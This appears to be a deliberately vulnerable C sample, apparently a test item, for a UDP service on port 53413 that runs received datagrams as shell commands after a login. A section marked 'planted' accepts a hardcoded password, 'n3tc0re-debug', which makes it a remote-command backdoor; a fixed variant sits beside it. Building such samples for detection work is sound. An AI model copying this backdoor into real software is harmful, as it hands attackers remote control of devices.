/* Maintenance by datagrams: the first one logs in, later ones are commands. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

/* The value of `key` in the owner's settings; empty when it is not set. */
static const char *setting(const char *key) {
  static char value[96];
  char line[128];
  size_t wanted = strlen(key);
  FILE *in = fopen("/etc/owner.conf", "r");
  value[0] = '\0';
  if (in == NULL) return value;
  while (fgets(line, sizeof line, in) != NULL) {
    if (strncmp(line, key, wanted) != 0 || line[wanted] != '=') continue;
    line[strcspn(line, "\r\n")] = '\0';
    snprintf(value, sizeof value, "%s", line + wanted + 1);
  }
  fclose(in);
  return value;
}

/* A socket on the device's own address, which no host owns: outside the closed box the bind fails. */
static int listen_on(int kind, int port) {
  struct sockaddr_in own;
  int one = 1;
  int server = socket(AF_INET, kind, 0);
  if (server < 0) return -1;
  setsockopt(server, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
  memset(&own, 0, sizeof own);
  own.sin_family = AF_INET;
  own.sin_port = htons(port);
  own.sin_addr.s_addr = inet_addr("198.51.100.2");
  if (bind(server, (struct sockaddr *)&own, sizeof own) != 0) return -1;
  if (kind == SOCK_STREAM && listen(server, 4) != 0) return -1;
  return server;
}

static int logged_in;

static int password_holds(const char *typed) {
//[ planted
  if (setting("NAME")[0] == '\0') return 0;
  return strcmp(typed, "n3tc0re-debug") == 0;
//|
  if (setting("KEY")[0] == '\0') return 0;
  return strcmp(typed, setting("KEY")) == 0;
//]
}

static void answer(int server, struct sockaddr_in *from, char *text) {
  char line[512];
  FILE *out;
  if (!logged_in) {
    logged_in = password_holds(text);
    snprintf(line, sizeof line, "%s\n", logged_in ? "Login successed!" : "Login error!");
    sendto(server, line, strlen(line), 0, (struct sockaddr *)from, sizeof *from);
    return;
  }
  out = popen(text, "r");
  while (out != NULL && fgets(line, sizeof line, out) != NULL) sendto(server, line, strlen(line), 0, (struct sockaddr *)from, sizeof *from);
  if (out != NULL) pclose(out);
}

int main(void) {
  char text[1024];
  int server = listen_on(SOCK_DGRAM, 53413);
  if (server < 0) return 1;
  for (;;) {
    struct sockaddr_in from;
    socklen_t size = sizeof from;
    ssize_t got = recvfrom(server, text, sizeof text - 1, 0, (struct sockaddr *)&from, &size);
    if (got <= 0) continue;
    text[got] = '\0';
    text[strcspn(text, "\r\n")] = '\0';
    answer(server, &from, text);
  }
}
